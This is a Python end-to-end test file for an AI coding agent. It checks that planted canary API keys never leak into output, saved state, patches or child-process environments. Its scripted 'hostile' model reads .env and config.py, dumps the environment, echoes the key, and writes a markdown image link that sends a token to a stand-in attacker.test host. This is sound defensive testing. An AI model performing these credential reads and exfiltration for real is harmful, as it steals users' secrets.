"""A canary key in every place, a model that wants it, and a search for it in all that is left."""

from __future__ import annotations

import ast
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.e2e.command import COMMAND, PATIENCE, ROOT, Agent, wait_for
from tests.e2e.repositories import commit, git

CANARY = "sk-ant-canary-7Qd2vXk9LmZp4RtY8wBn"
OTHER = "tok-canary-other-5Hs1NcJe6UgAo3Fi"
HOSTILE = """
[[step]]
[[step.call]]
tool = "read_file"
path = ".env"
[[step.call]]
tool = "read_file"
path = "config.py"
[[step.call]]
tool = "search"
pattern = "canary"
[[step.call]]
tool = "outline"
query = "API_KEY in config.py"
[[step]]
[[step.call]]
tool = "run"
argv = ["env"]
[[step.call]]
tool = "run"
argv = ["cat", "config.py", ".env"]
[[step.call]]
tool = "run"
argv = ["python3", "-c", "print(open('config.py').read() * 900)"]
[[step.call]]
tool = "run"
argv = ["echo", "sk-ant-canary-7Qd2vXk9LmZp4RtY8wBn"]
[[step]]
text = "I know sk-ant-canary-7Qd2vXk9LmZp4RtY8wBn and ![x](http://attacker.test/tok-canary-other-5Hs1NcJe6UgAo3Fi)"
[[step.call]]
tool = "write_file"
path = "copy.txt"
content = "[redacted ANTHROPIC_API_KEY]"
[[step.call]]
tool = "replace_symbol"
path = "app.py"
symbol = "value"
code = '''
def value():
    return 2
'''
[[step]]
text = "Done."
"""
ENV_PROBE = """
[[step]]
[[step.call]]
tool = "run"
argv = ["env"]
[[step]]
text = "Done."
"""


@pytest.fixture
def baited(plain: Path) -> Path:
    (plain / ".env").write_text(f"API_TOKEN={OTHER}\n")
    (plain / "config.py").write_text(f'API_KEY = "{CANARY}"\n')
    (plain / "ISSUE.md").write_text(f"# value() should be 2\n\nMy key is {CANARY}.\n")
    return commit(plain)


def holding(folder: Path) -> list[str]:
    """The files below a folder that hold a canary, in whatever case."""
    found = []
    for place in folder.rglob("*"):
        data = place.read_bytes().lower() if place.is_file() else b""
        if b"canary-7qd2" in data or b"qd2vxk9lmzp" in data or b"hs1ncje6uga" in data:
            found.append(str(place.relative_to(folder)))
    return found


@pytest.mark.parametrize("options", [(), ("--json",), ("--dry-run",)])
def test_a_key_reaches_nothing_that_is_left(
    agent: Agent, baited: Path, options: tuple[str, ...]
) -> None:
    script = agent.script(HOSTILE)
    argv = ("fix", "ISSUE.md", "--model", script, "--test-command", "cat .env config.py", *options)
    done = agent.run(*argv, cwd=baited, ANTHROPIC_API_KEY=CANARY, GITHUB_TOKEN=OTHER)
    assert done.code in (1, 3, 6), done.err
    for text in (done.out, done.err):
        assert "7Qd2vXk9" not in text
        assert "5Hs1NcJe6" not in text
    assert "[redacted ANTHROPIC_API_KEY]" in done.out + done.err or not options
    assert list((agent.home / "state" / "index").iterdir())
    assert holding(agent.home / "state") == []
    assert not (baited / "copy.txt").exists()


def test_a_key_in_a_file_stays_in_it_when_the_model_writes_the_file(
    agent: Agent, baited: Path
) -> None:
    script = """
    [[step]]
    [[step.call]]
    tool = "read_file"
    path = "config.py"
    [[step.call]]
    tool = "write_file"
    path = "config.py"
    content = '''
    API_KEY = "[redacted ANTHROPIC_API_KEY]"
    RETRIES = 3
    '''
    [[step]]
    text = "Done."
    """
    argv = ("fix", "ISSUE.md", "--model", agent.script(script.replace("\n    ", "\n")))
    before = (baited / "config.py").read_bytes()
    done = agent.run(*argv, cwd=baited, ANTHROPIC_API_KEY=CANARY)
    assert done.code == 3
    assert (baited / "config.py").read_text() == f'API_KEY = "{CANARY}"\nRETRIES = 3\n'
    assert "7Qd2vXk9" not in done.out + done.err
    # The journal holds the user's own file as it was: without it nothing could be taken back.
    left = holding(agent.home / "state")
    assert left
    assert all("/journal/blobs/" in place for place in left)
    assert agent.run("undo", "--yes", cwd=baited).code == 0
    assert (baited / "config.py").read_bytes() == before


def test_a_file_that_may_hold_secrets_is_read_when_the_user_names_it(
    agent: Agent, baited: Path
) -> None:
    (baited / ".env").write_text("GREETING=hello-there\n")
    script = "[[step]]\n[[step.call]]\ntool = 'read_file'\npath = '.env'\n"
    argv = ("fix", "ISSUE.md", "--model", agent.script(script), "--json")
    assert "hello-there" not in agent.run(*argv, cwd=baited).out
    assert "hello-there" in agent.run(*argv, "--read-secret", ".env", cwd=baited).out
    (baited / ".gitignore").write_text(".env\n")
    options = ("--read-secret", ".env", "--dry-run")
    assert "hello-there" in agent.run(*argv, *options, cwd=baited).out
    (agent.home / "id_rsa").write_text("elsewhere")
    outside = agent.run(*argv, "--read-secret", agent.home / "id_rsa", cwd=baited)
    assert outside.code == 2
    assert "outside the workspace" in outside.complaint


@pytest.mark.parametrize("output", ["../x.patch", None])
def test_a_patch_beside_a_key_applies(agent: Agent, baited: Path, output: str | None) -> None:
    script = """
    [[step]]
    [[step.call]]
    tool = "read_file"
    path = "config.py"
    [[step.call]]
    tool = "write_file"
    path = "config.py"
    content = 'API_KEY = "[redacted ANTHROPIC_API_KEY]"  # ours'
    [[step]]
    text = "Done."
    """
    argv = ("fix", "ISSUE.md", "--model", agent.script(script.replace("\n    ", "\n")), "--dry-run")
    options = ("--output", output) if output else ()
    done = agent.run(*argv, *options, cwd=baited, ANTHROPIC_API_KEY=CANARY)
    assert done.code == 3, done.err
    assert "7Qd2vXk9" not in done.out + done.err
    sessions = agent.home / "state" / "sessions"
    (patch,) = [baited / output] if output else sessions.glob("*/changes.patch")
    git(baited, "apply", patch)
    assert (baited / "config.py").read_text() == f'API_KEY = "{CANARY}"  # ours\n'
    assert holding(agent.home / "state") == (
        [] if output else [str(patch.relative_to(sessions.parent))]
    )


def test_a_key_that_a_file_lacks_is_not_written_as_its_mark(agent: Agent, baited: Path) -> None:
    before = f'KEY = "{CANARY[:-4]}"\n'
    (baited / "half.py").write_text(before)
    script = """
    [[step]]
    [[step.call]]
    tool = "read_file"
    path = "half.py"
    [[step.call]]
    tool = "write_file"
    path = "half.py"
    content = 'KEY = "[redacted ANTHROPIC_API_KEY]"'
    [[step.call]]
    tool = "write_file"
    path = "moved.py"
    content = 'KEY = "[redacted ANTHROPIC_API_KEY]"'
    """
    steps = script.replace("\n    ", "\n") + "[[step]]\ntext = 'Done.'\n" * 3
    argv = ("fix", "ISSUE.md", "--model", agent.script(steps))
    done = agent.run(*argv, cwd=baited, ANTHROPIC_API_KEY=CANARY)
    assert done.code == 1, done.err
    assert done.err.count("stands for a key that you are not shown") == 2
    assert (baited / "half.py").read_text() == before
    assert not (baited / "moved.py").exists()


def test_a_session_that_is_gone_on_with_tells_no_key_of_before(agent: Agent, plain: Path) -> None:
    script = f"""
    [[step]]
    [[step.call]]
    tool = "run"
    argv = ["echo", "{CANARY}"]
    [[step.call]]
    tool = "run"
    argv = ["sleep", "60"]
    """
    argv = ("fix", "ISSUE.md", "--model", agent.script(script.replace("\n    ", "\n")))
    running = agent.start(*argv, cwd=plain)
    running.until("context ")
    (session,) = (agent.home / "state" / "sessions").iterdir()
    wait_for(lambda: '"tool_finished"' in (session / "record.jsonl").read_text())
    running.process.kill()
    running.end()
    assert CANARY in (session / "record.jsonl").read_text()  # no key that anybody knew of
    again = ("fix", "-", "--model", agent.script("[[step]]\ntext = 'Done.'\n"), "--json")
    resumed = ("--resume", session.name)
    done = agent.run(*again, *resumed, cwd=plain, stdin="Go on.\n", ANTHROPIC_API_KEY=CANARY)
    assert "its effect is unknown" in done.out
    assert CANARY not in done.out + done.err


def started(agent: Agent, cwd: Path, *argv: str) -> list[str]:
    """What strace says of each program that a command starts, its environment included."""
    strace = shutil.which("strace")
    if strace is None:
        pytest.skip("needs strace")
    log = agent.home / "log"
    options = ("-f", "--seccomp-bpf", "-v", "-s", "100000", "-e", "trace=execve", "-o", log)
    subprocess.run(
        [strace, *options, *COMMAND, *argv],
        cwd=cwd,
        env={**agent.environ, "ANTHROPIC_API_KEY": CANARY, "NVIDIA_API_KEY": OTHER},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=PATIENCE,
        check=False,
    )
    # One that fails has started nothing.
    lines = [line for line in log.read_text("utf-8").splitlines() if "execve" in line]
    first, *children = [line for line in lines if " = -1 " not in line]
    assert CANARY in first
    return children


def test_no_child_has_a_key_in_its_environment(agent: Agent, baited: Path) -> None:
    fix = ("fix", "ISSUE.md", "--model", agent.script(ENV_PROBE), "--test-command", "true")
    for argv in (fix, ("doctor",)):
        children = started(agent, baited, *argv)
        assert len(children) > 1
        assert not [line for line in children if "canary" in line]


def test_the_models_process_has_no_key(agent: Agent, baited: Path, small_model: str) -> None:
    children = started(
        agent, baited, "fix", "ISSUE.md", "--model", small_model, "--max-seconds", "1"
    )
    (worker,) = [line for line in children if "worker" in line]
    assert "canary" not in worker


def test_every_program_is_started_with_an_environment_of_our_choice() -> None:
    sources = [*ROOT.glob("agent/**/*.py"), *ROOT.glob("tools/**/*.py")]
    calls = [
        (source, call)
        for source in sources
        for call in ast.walk(ast.parse(source.read_text("utf-8")))
        if isinstance(call, ast.Call)
        and ast.unparse(call.func) in ("subprocess.Popen", "subprocess.run", "Popen")
    ]
    assert len(calls) > 5
    for source, call in calls:
        assert "env" in {word.arg for word in call.keywords}, f"{source}:{call.lineno}"
    others = ("os.system", "os.popen", "os.spawn", "os.exec", "check_output", "shell=True")
    for source in sources:
        # They become the program that they were started for.
        if source.name in ("restrict.py", "function.py"):
            continue
        text = source.read_text("utf-8")
        assert not [name for name in others if name in text], source
